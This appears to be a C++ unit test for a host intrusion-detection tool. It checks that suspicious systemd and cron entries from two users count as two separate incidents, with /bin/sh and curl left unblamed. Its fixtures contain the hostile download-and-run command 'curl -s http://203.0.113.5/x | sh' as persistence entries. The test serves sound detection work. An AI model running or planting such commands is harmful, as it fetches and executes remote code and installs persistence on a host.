// SPDX-License-Identifier: Apache-2.0
//
// Suspicious entries of two people name the same honest programs of the host, /bin/sh and curl. The
// shell is neither suspicious nor what ties the entries together: two incidents.
#include <gtest/gtest.h>

#include "judge/judge.h"
#include "model/tables/crontab.h"
#include "model/tables/package_files.h"
#include "model/tables/systemd_unit_commands.h"
#include "model/tables/systemd_units.h"
#include "store/database.h"

namespace genba::test {
namespace {

void add_unit(model::Facts& facts, const std::string& home) {
  model::SystemdUnitCommand command;
  command.id = "sync.service";
  command.fragment_path = home + "/.config/systemd/user/sync.service";
  command.path = command.fragment_path;
  command.line = 4;
  command.directive = "ExecStart";
  command.command = "/bin/sh -c 'curl -s http://203.0.113.5/x | sh'";
  command.executable = "/bin/sh";
  facts.rows<model::SystemdUnitCommand>().push_back(command);
}

void add_cron_entry(model::Facts& facts, const std::string& user) {
  model::Crontab entry;
  entry.path = "/var/spool/cron/crontabs/" + user;
  entry.line = 1;
  entry.username = user;
  entry.kind = "user";
  entry.command = "/usr/bin/curl -s http://203.0.113.5/x | sh";
  entry.executable = "/usr/bin/curl";
  facts.rows<model::Crontab>().push_back(entry);
}

void expect_two_incidents(const model::Facts& facts, const std::string& program) {
  auto database = store::Database::open(facts);
  ASSERT_TRUE(database) << database.error().what;
  const auto judgement = judge::judge(judge::builtin_rules(), **database, facts);
  ASSERT_TRUE(judgement) << judgement.error().what;
  EXPECT_EQ(judgement->findings.size(), 2u);
  ASSERT_EQ(judgement->incidents.size(), 2u);
  for (const model::Incident& incident : judgement->incidents) {
    EXPECT_EQ(incident.says.en.find("file " + program), std::string::npos) << incident.says.en;
  }
  for (const model::Finding& finding : judgement->findings) {
    for (const model::Subject& subject : finding.subjects) {
      EXPECT_EQ(subject.identity().find(program), std::string::npos) << subject.identity();
    }
  }
}

TEST(HonestShell, UnitsOfTwoPeopleThatShareItAreTwoIncidents) {
  model::Facts facts;
  facts.open(model::tables::systemd_units());
  add_unit(facts, "/home/alice");
  add_unit(facts, "/home/bob");
  expect_two_incidents(facts, "/bin/sh");
}

TEST(HonestFetcher, CronEntriesOfTwoPeopleThatShareItAreTwoIncidents) {
  model::Facts facts;
  model::PackageFile owned;
  owned.package = "curl";
  owned.path = "/usr/bin/curl";
  facts.append_large(owned);
  add_cron_entry(facts, "alice");
  add_cron_entry(facts, "bob");
  expect_two_incidents(facts, "/usr/bin/curl");
}

}  // namespace
}  // namespace genba::test
